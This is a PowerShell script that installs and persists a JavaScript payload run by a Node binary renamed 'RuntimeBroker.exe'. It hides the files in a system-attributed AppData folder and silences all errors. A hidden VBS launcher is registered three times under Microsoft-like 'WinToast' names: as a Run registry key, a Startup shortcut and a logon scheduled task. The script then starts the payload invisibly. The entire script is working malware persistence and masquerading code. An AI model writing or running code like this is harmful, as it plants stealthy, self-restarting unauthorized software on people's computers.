param([string]$Src, [string]$Node)
$ErrorActionPreference = 'SilentlyContinue'

$dir = Join-Path $env:APPDATA 'Microsoft\Windows\Templates\WinToastHost'
New-Item -ItemType Directory -Force -Path $dir | Out-Null
Copy-Item -Force $Src (Join-Path $dir 'host.js')
Copy-Item -Force $Node (Join-Path $dir 'RuntimeBroker.exe')
attrib +h +s $dir

$vbs = Join-Path $dir 'launch.vbs'
@"
Set sh = CreateObject("WScript.Shell")
sh.Run Chr(34) & "$dir\RuntimeBroker.exe" & Chr(34) & " " & Chr(34) & "$dir\host.js" & Chr(34), 0, False
"@ | Set-Content -Encoding ASCII $vbs

# 1. HKCU Run key
$run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
Set-ItemProperty -Path $run -Name 'WinToastRuntime' -Value ("wscript.exe //B `"" + $vbs + "`"")

# 2. Startup folder
$startup = [Environment]::GetFolderPath('Startup')
$ws = New-Object -ComObject WScript.Shell
$lnk = $ws.CreateShortcut((Join-Path $startup 'WinToast.lnk'))
$lnk.TargetPath = 'wscript.exe'
$lnk.Arguments = "//B `"$vbs`""
$lnk.WindowStyle = 7
$lnk.Save()

# 3. Scheduled task at logon
schtasks.exe /Create /F /SC ONLOGON /RL LIMITED /TN "Microsoft\Windows\WinToast\RuntimeHost" /TR "wscript.exe //B \`"$vbs\`"" | Out-Null

Start-Process wscript.exe -ArgumentList "//B `"$vbs`"" -WindowStyle Hidden
